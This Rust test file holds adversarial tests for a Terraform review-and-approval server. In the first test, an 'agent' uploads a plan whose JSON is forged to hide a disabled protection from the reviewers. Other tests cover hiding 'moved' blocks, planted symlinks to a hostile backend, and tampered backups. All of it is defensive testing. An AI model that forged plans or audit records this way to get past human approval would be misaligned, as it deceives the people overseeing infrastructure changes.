//! Adversarial review of this session's new surfaces with the real binary and real terraform
//! (the in-process attacks are in `airlock-server`'s `tests/http/attacks_tier4.rs`): each test
//! is one attack; a test marked `#[ignore = "open: ..."]` is a hole (it fails until fixed),
//! the others pass today and pin the refusal.

use base64::Engine;
use serde_json::{json, Value};

use crate::attacks::{forged_upload, upload};
use crate::support::{
    forge_backup_file, offline_cli, raw, run_json, team, text, Backing, TestServer,
};
use crate::testcloud::{apply_on, TestCloud};

const B64: base64::engine::GeneralPurpose = base64::engine::general_purpose::STANDARD;
const STACK: &str = "prod/data";
const TF: &str = r#"
resource "aws_instance" "bastion" {
  ami                     = "ami-0abc1234"
  instance_type           = "t3.micro"
  disable_api_termination = true
}
"#;

/// HOLDS (an agent's run upload): a NORMAL plan whose JSON `resource_drift` is forged (the
/// real drift, a protection turned off outside Terraform, hidden; a fake drift entry added that
/// reads like an accepted deletion) is judged as a normal plan: the server takes the mode from
/// the binary, so the run is no refresh-only run and its summary says nothing of accepting
/// drift; `airlock apply` then compares `resource_drift` with Terraform's own `show -json`
/// of the approved binary and applies nothing.
#[test]
fn attacks_tier4_a_normal_plan_with_forged_resource_drift_is_no_drift_run_and_is_not_applied() {
    let cloud = TestCloud::new();
    let t = team(STACK);
    let ws = cloud.workspace(&t.s, STACK, TF);
    ws.tf_ok(&t.s.admin, &["init", "-input=false"]);
    ws.tf_ok(&t.s.admin, &["apply", "-auto-approve", "-input=false"]);
    let bastion = cloud.ids("aws_instance").pop().unwrap();
    cloud.set("aws_instance", &bastion, "disable_api_termination", "false");
    // Outside the checkout, so that the plan file is not one of the run's inputs.
    ws.tf_ok(&t.s.admin, &["plan", "-out=../normal.tfplan"]);
    let honest = forged_upload(&t, &ws, STACK, "../normal.tfplan", "../normal.tfplan");
    let mut j: Value = serde_json::from_slice(
        &B64.decode(honest["plan_json_b64"].as_str().unwrap())
            .unwrap(),
    )
    .unwrap();
    assert!(
        j["resource_drift"]
            .as_array()
            .is_some_and(|d| !d.is_empty()),
        "the setup drifted: {j:#}"
    );
    j["resource_drift"] = json!([{
        "address": "aws_db_instance.ghost", "mode": "managed", "type": "aws_db_instance",
        "name": "ghost", "provider_name": "registry.terraform.io/hashicorp/aws",
        "change": {"actions": ["delete"], "before": {"id": "db-1"}, "after": null}
    }]);
    let mut forged = honest.clone();
    forged["plan_json_b64"] = json!(B64.encode(j.to_string()));
    forged["plan_mode"] = json!("normal");
    let (code, body) = upload(&t, &t.agent, STACK, &forged);
    assert_eq!(code, 201, "{body}");
    let created: Value = serde_json::from_str(&body).unwrap();
    assert!(created["run"]["plan_mode"].is_null(), "{body}");
    assert!(
        !created["summary_markdown"]
            .as_str()
            .unwrap_or_default()
            .contains("accept drift"),
        "{body}"
    );
    let run = created["run"]["id"].as_str().unwrap().to_owned();
    t.s.ok(&t.approver, &["approve", &run]);
    let serials = t.s.serials(STACK);
    let out = apply_on(&cloud, &t, &ws.dir, &t.ci, &run);
    assert_ne!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        text(&out).contains("differs from the reviewed plan JSON in resource_drift"),
        "{}",
        text(&out)
    );
    assert_eq!(run_json(&t, &run)["run"]["status"], "failed");
    assert_eq!(t.s.serials(STACK), serials, "nothing was applied");
}

/// HOLDS: an approved refresh-only run is applied only against the state it was planned from.
/// Here the state moved on after the approval (an admin recorded the drift directly); CI's
/// apply of the older refresh-only plan is refused and writes nothing, rather than recording
/// an older view of the world over the newer state.
#[test]
fn attacks_tier4_a_refresh_only_plan_is_not_applied_over_a_newer_serial() {
    let cloud = TestCloud::new();
    let t = team(STACK);
    let ws = cloud.workspace(&t.s, STACK, TF);
    ws.tf_ok(&t.s.admin, &["init", "-input=false"]);
    ws.tf_ok(&t.s.admin, &["apply", "-auto-approve", "-input=false"]);
    let bastion = cloud.ids("aws_instance").pop().unwrap();
    cloud.set("aws_instance", &bastion, "instance_type", "\"t3.large\"");
    ws.tf_ok(&t.s.admin, &["plan", "-refresh-only", "-out=../ro.tfplan"]);
    let honest = forged_upload(&t, &ws, STACK, "../ro.tfplan", "../ro.tfplan");
    let (code, body) = upload(&t, &t.agent, STACK, &honest);
    assert_eq!(code, 201, "{body}");
    let created: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(created["run"]["plan_mode"], "refresh-only", "{body}");
    let run = created["run"]["id"].as_str().unwrap().to_owned();
    t.s.ok(&t.approver, &["approve", &run]);
    // The state moves on after the approval.
    cloud.set("aws_instance", &bastion, "instance_type", "\"t3.xlarge\"");
    ws.tf_ok(
        &t.s.admin,
        &["apply", "-refresh-only", "-auto-approve", "-input=false"],
    );
    let serials = t.s.serials(STACK);
    let out = apply_on(&cloud, &t, &ws.dir, &t.ci, &run);
    assert_ne!(out.status.code(), Some(0), "{}", text(&out));
    assert_eq!(t.s.serials(STACK), serials, "nothing was applied");
    assert_ne!(run_json(&t, &run)["run"]["status"], "applied");
    assert!(text(&out).contains("the plan is stale"), "{}", text(&out));
}

/// HOLDS (something that can write under the kept root, e.g. an earlier job of the same user
/// on a shared runner): a kept data directory planted as a symlink (to a directory the next
/// plan would then fill, or read a planted `.terraform` from) is not used; nor is a kept root
/// reached through a symlink to a directory others may write. The plan falls back to a fresh
/// data directory (`None`). A planted `KEY.lock` symlink only has its target's mtime touched.
#[test]
fn attacks_tier4_a_planted_symlink_is_never_a_kept_data_directory() {
    use airlock_runner::cli_config::{kept_data_dir, kept_data_root};
    use std::os::unix::fs::{symlink, PermissionsExt};
    let tmp = tempfile::tempdir().unwrap();
    let repo = tmp.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    let root = kept_data_root(Some(tmp.path().join("cache").to_str().unwrap()), None).unwrap();
    // The root exists (private) once a first plan made its own directory.
    drop(kept_data_dir(&root, &repo, "aa").expect("a first kept directory"));

    // The key's directory planted as a symlink to a private directory elsewhere, holding a
    // `.terraform` with another backend.
    let elsewhere = tmp.path().join("elsewhere");
    std::fs::create_dir_all(elsewhere.join(".terraform")).unwrap();
    std::fs::set_permissions(&elsewhere, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::write(
        elsewhere.join(".terraform/terraform.tfstate"),
        r#"{"backend":{"type":"http","config":{"address":"https://evil.example/state/x"}}}"#,
    )
    .unwrap();
    symlink(&elsewhere, root.join("bb")).unwrap();
    assert!(
        kept_data_dir(&root, &repo, "bb").is_none(),
        "a symlinked kept directory was used"
    );
    // The kept root itself a symlink to a directory others may write (sticky or not).
    let open = tmp.path().join("open");
    std::fs::create_dir_all(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
    let linked = tmp.path().join("linked-cache");
    symlink(&open, &linked).unwrap();
    assert!(kept_data_dir(&linked.join("plan-data"), &repo, "cc").is_none());
    // The root replaced by a symlink to a private directory: not used either (its own
    // metadata is checked, not its target's).
    let private = tmp.path().join("private");
    std::fs::create_dir_all(&private).unwrap();
    std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o700)).unwrap();
    let root2 = tmp.path().join("root2");
    symlink(&private, &root2).unwrap();
    assert!(kept_data_dir(&root2, &repo, "dd").is_none());
    // A planted lock symlink: the directory is used (it is the user's own), the target file
    // keeps its contents.
    let victim = tmp.path().join("victim");
    std::fs::write(&victim, "keep me").unwrap();
    symlink(&victim, root.join("ee.lock")).unwrap();
    let kept = kept_data_dir(&root, &repo, "ee");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
    drop(kept);
}

/// Terraform applies `moved` blocks in a refresh-only plan too (the drift lists the object at
/// its new address, `previous_address` the old one, action no-op): a refresh-only run can move
/// a server-protected instance away from its protected address. HOLDS when the server sees the
/// move (a review finding, the run's grant covering the old address) as it does in a normal
/// plan.
#[test]
fn attacks_tier4_a_refresh_only_run_moving_a_protected_instance_is_reviewed() {
    let stack = "dev/romove".to_owned();
    let (t, ws) = crate::attacks::applied_stack(&stack);
    t.s.ok(
        &t.s.admin,
        &["stack", "protect", &stack, "--address", "terraform_data.db"],
    );
    ws.write_main(
        "resource \"terraform_data\" \"db2\" {\n  input = 1\n}\nresource \"terraform_data\" \"web\" {\n  input = 1\n}\nmoved {\n  from = terraform_data.db\n  to   = terraform_data.db2\n}\n",
    );
    ws.tf_ok(&t.s.admin, &["plan", "-refresh-only", "-out=../ro.tfplan"]);
    let honest = forged_upload(&t, &ws, &stack, "../ro.tfplan", "../ro.tfplan");
    let (code, body) = upload(&t, &t.agent, &stack, &honest);
    assert_eq!(code, 201, "{body}");
    let created: Value = serde_json::from_str(&body).unwrap();
    let run = &created["run"];
    assert_eq!(run["plan_mode"], "refresh-only", "{body}");
    assert_eq!(run["status"], "needs_approval", "{body}");
    assert_eq!(run["moved_from"], json!(["terraform_data.db"]), "{body}");
    assert!(
        run["report"]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "server-protected" && f["address"] == "terraform_data.db"),
        "{body}"
    );
    // The same upload with the move hidden from the JSON (no previous_address): the server
    // still sees the protected object leave its address (stored state against the binary's
    // prior state), so the run is still reviewed and its grant still names the old address.
    let mut j: Value = serde_json::from_slice(
        &B64.decode(honest["plan_json_b64"].as_str().unwrap())
            .unwrap(),
    )
    .unwrap();
    for d in j["resource_drift"].as_array_mut().unwrap() {
        d.as_object_mut().unwrap().remove("previous_address");
    }
    let mut hidden = honest.clone();
    hidden["plan_json_b64"] = json!(B64.encode(j.to_string()));
    let (code, body) = upload(&t, &t.agent, &stack, &hidden);
    if code == 201 {
        let created: Value = serde_json::from_str(&body).unwrap();
        let run = &created["run"];
        assert_eq!(run["status"], "needs_approval", "{body}");
        assert!(
            run["destroys"]
                .as_array()
                .unwrap()
                .contains(&json!("terraform_data.db")),
            "{body}"
        );
    } else {
        assert_eq!(code, 400, "{body}");
    }
}

/// Stops `s` and exports its data directory `data` (offline) to `tmp/bk`.
fn exported(
    mut s: TestServer,
    tmp: tempfile::TempDir,
    data: &std::path::Path,
) -> (tempfile::TempDir, std::path::PathBuf) {
    s.kill();
    let bk = tmp.path().join("bk");
    let out = offline_cli(
        &[
            "backup",
            "export",
            bk.to_str().unwrap(),
            "--data-dir",
            data.to_str().unwrap(),
        ],
        &[],
    );
    assert!(out.status.success(), "{}", text(&out));
    (tmp, bk)
}

/// FIXED (was a hole; someone with write access to a backup, the threat the format-4 audit cross-check is
/// for): the cross-check proves every drift report in the backup is one a `drift.report`
/// event recorded, but not that every recorded report is in the backup. Leaving out the
/// newest report (here "unknown: refresh failed"; equally a "drifted" one) makes an older
/// "in sync" report the stack's latest after the restore, which is the forged in-sync report
/// the cross-check claims to refuse, made by omission. `backup verify` says OK, and the import
/// (it runs the same verification) would restore the shorter history. Expected: a
/// `drift.report` event (of a stack in the backup) whose report is missing is a problem, like
/// a report without its event.
/// A backup of a server whose stack dev/app has two drift reports by CI, milliseconds apart:
/// "in sync", then "unknown: refresh failed" (the newest).
fn backup_with_two_drift_reports() -> (tempfile::TempDir, std::path::PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let s = TestServer::start_on(&Backing::Dir(data.clone()), None, &[], &[]);
    let admin = s.admin.clone();
    s.ok(&admin, &["stack", "create", "dev/app"]);
    let ci = s.token("ci", "ci");
    let url = format!("{}/api/v1/stacks/dev%2Fapp/drift", s.url);
    let plan = json!({"format_version": "1.2", "terraform_version": "1.11.4",
                      "resource_drift": [], "output_changes": {}});
    let (code, v) = raw(
        "POST",
        &url,
        &ci,
        json!({"serial": null, "plan_json_b64": B64.encode(plan.to_string())})
            .to_string()
            .as_bytes(),
    );
    assert_eq!(code, 201, "{v}");
    let (code, v) = raw(
        "POST",
        &url,
        &ci,
        json!({"serial": null, "error": "refresh failed"})
            .to_string()
            .as_bytes(),
    );
    assert_eq!(code, 201, "{v}");
    exported(s, tmp, &data)
}

/// Sets the manifest's summary count of drift reports, as a forger rewriting it would.
fn set_summary_drift_reports(bk: &std::path::Path, n: usize) {
    let mpath = bk.join("manifest.json");
    let mut m: Value = serde_json::from_slice(&std::fs::read(&mpath).unwrap()).unwrap();
    m["summary"]["drift_reports"] = json!(n);
    std::fs::write(&mpath, m.to_string()).unwrap();
}

#[test]
fn attacks_tier4_a_backup_that_omits_the_newest_drift_report_is_refused() {
    let (_tmp, bk) = backup_with_two_drift_reports();
    forge_backup_file(&bk, "drift_reports.json", |v| {
        let reports = v.as_array_mut().unwrap();
        assert_eq!(reports.len(), 2, "{reports:?}");
        reports.retain(|r| r["status"] == "in_sync");
        assert_eq!(reports.len(), 1);
    });
    set_summary_drift_reports(&bk, 1);
    let out = offline_cli(&["backup", "verify", bk.to_str().unwrap()], &[]);
    assert!(
        !out.status.success() && text(&out).contains("backup BROKEN"),
        "a backup without the newest recorded drift report verifies: {}",
        text(&out)
    );
}

/// FIXED (was a hole; write access to a backup, as above): a drift report's time must only be within 5
/// minutes of its `drift.report` event's, and the stack's latest report is the one with the
/// newest `created_at`. Moving the older "in sync" report 4 minutes later than the newest
/// report (checks run minutes apart are common) makes it the latest after a restore: a
/// forged in-sync state with no report added or dropped. Expected: the restored order is the
/// audit order (or the time is the event's exactly).
#[test]
fn attacks_tier4_a_backup_that_reorders_drift_reports_is_refused() {
    let (_tmp, bk) = backup_with_two_drift_reports();
    forge_backup_file(&bk, "drift_reports.json", |v| {
        let reports = v.as_array_mut().unwrap();
        let newest = reports
            .iter()
            .map(|r| r["created_at"].as_i64().unwrap())
            .max()
            .unwrap();
        for r in reports.iter_mut().filter(|r| r["status"] == "in_sync") {
            r["created_at"] = json!(newest + 4 * 60 * 1000);
        }
    });
    let out = offline_cli(&["backup", "verify", bk.to_str().unwrap()], &[]);
    assert!(
        !out.status.success() && text(&out).contains("backup BROKEN"),
        "a backup whose older in-sync report was moved after the newest verifies: {}",
        text(&out)
    );
}

/// A backup of a server whose stack dev/db has one "drifted" report by CI: the database's
/// deletion protection was turned off outside Terraform (a critical resource, a finding).
fn backup_with_a_drifted_database() -> (tempfile::TempDir, std::path::PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let s = TestServer::start_on(&Backing::Dir(data.clone()), None, &[], &[]);
    let admin = s.admin.clone();
    s.ok(&admin, &["stack", "create", "dev/db"]);
    let ci = s.token("ci", "ci");
    let plan = json!({"format_version": "1.2", "terraform_version": "1.11.4",
        "resource_drift": [{"address": "aws_db_instance.main", "mode": "managed",
            "type": "aws_db_instance", "name": "main",
            "provider_name": "registry.terraform.io/hashicorp/aws",
            "change": {"actions": ["update"],
                "before": {"id": "db-1", "deletion_protection": true},
                "after": {"id": "db-1", "deletion_protection": false}}}],
        "output_changes": {}});
    let (code, v) = raw(
        "POST",
        &format!("{}/api/v1/stacks/dev%2Fdb/drift", s.url),
        &ci,
        json!({"serial": null, "plan_json_b64": B64.encode(plan.to_string())})
            .to_string()
            .as_bytes(),
    );
    assert_eq!(code, 201, "{v}");
    assert!(v.contains("\"drifted\""), "{v}");
    exported(s, tmp, &data)
}

/// FIXED (was a hole; write access to a backup): a `drift.report` event recorded the stack,
/// status, serial, counts and time of a report but not its body, so a forger could rewrite
/// which resource drifted and what was found (here: the production database whose deletion
/// protection was turned off becomes a log bucket's tag, the counts kept) and a restored server
/// would show the forged report. Expected: the event carries the SHA-256 of the stored report,
/// and verify and import refuse a body that does not hash to it, import writing nothing.
#[test]
fn attacks_tier4_a_backup_with_an_edited_drift_report_body_is_refused() {
    let (tmp, bk) = backup_with_a_drifted_database();
    forge_backup_file(&bk, "drift_reports.json", |v| {
        let r = &mut v.as_array_mut().unwrap()[0];
        let body = r["report"].as_str().unwrap().to_owned();
        assert!(body.contains("aws_db_instance.main"), "{body}");
        let forged = body
            .replace("aws_db_instance.main", "aws_s3_bucket.logs")
            .replace("aws_db_instance", "aws_s3_bucket")
            .replace("deletion_protection", "tags")
            .replace("\"critical\":true", "\"critical\":false")
            .replace("\"protected\":true", "\"protected\":false");
        assert_ne!(forged, body);
        r["report"] = json!(forged);
    });
    let out = offline_cli(&["backup", "verify", bk.to_str().unwrap()], &[]);
    let why = "is not the one its drift.report audit event recorded";
    assert!(
        !out.status.success() && text(&out).contains("backup BROKEN") && text(&out).contains(why),
        "a backup whose drift report body was edited verifies: {}",
        text(&out)
    );
    let target = tmp.path().join("restored");
    let out = offline_cli(
        &[
            "backup",
            "import",
            bk.to_str().unwrap(),
            "--data-dir",
            target.to_str().unwrap(),
        ],
        &[],
    );
    assert!(
        !out.status.success() && text(&out).contains("does not verify") && text(&out).contains(why),
        "{}",
        text(&out)
    );
    assert!(
        !target.exists(),
        "the refused import created {}",
        target.display()
    );
}

/// A backup whose `drift.report` events were written before they carried the report's
/// SHA-256 (an older airlock; made here by rewriting the audit chain without it) was valid and
/// stays valid: verify and import accept it and say that those reports' bodies are unverified.
#[test]
fn a_drift_report_recorded_before_report_hashes_is_restored_with_a_note() {
    let (tmp, bk) = backup_with_a_drifted_database();
    crate::support::rewrite_backup_audit(&bk, |r| {
        if r.action == "drift.report" {
            r.detail.as_object_mut().unwrap().remove("report_sha256");
        }
    });
    let note = "1 drift report(s) were recorded before";
    let out = offline_cli(&["backup", "verify", bk.to_str().unwrap()], &[]);
    assert!(
        out.status.success() && text(&out).contains("backup OK") && text(&out).contains(note),
        "{}",
        text(&out)
    );
    let out = offline_cli(
        &["backup", "verify", bk.to_str().unwrap(), "--format", "json"],
        &[],
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v["notes"][0].as_str().unwrap().contains(note), "{v}");
    let target = tmp.path().join("restored");
    let out = offline_cli(
        &[
            "backup",
            "import",
            bk.to_str().unwrap(),
            "--data-dir",
            target.to_str().unwrap(),
        ],
        &[],
    );
    assert!(
        out.status.success() && text(&out).contains(note),
        "{}",
        text(&out)
    );
}
